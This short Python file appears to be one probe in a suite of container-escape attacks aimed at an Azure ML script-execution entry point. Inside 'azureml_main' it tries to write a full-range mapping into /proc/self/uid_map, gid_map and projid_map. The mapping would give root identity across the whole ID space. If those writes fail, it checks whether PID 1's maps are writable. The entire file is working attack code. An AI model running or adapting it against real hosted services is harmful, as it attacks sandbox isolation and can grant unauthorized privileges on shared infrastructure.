"""Writes the map of users of its namespace again."""

from attack import attack, every, may_write


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    def write(name):
        with open(f"/proc/self/{name}", "w") as stream:
            stream.write("0 0 4294967295")
        return f"wrote {name}"

    try:
        return every(write, ["uid_map", "gid_map", "projid_map"])
    except OSError:
        return every(lambda name: may_write(f"/proc/1/{name}"), ["uid_map", "gid_map"])
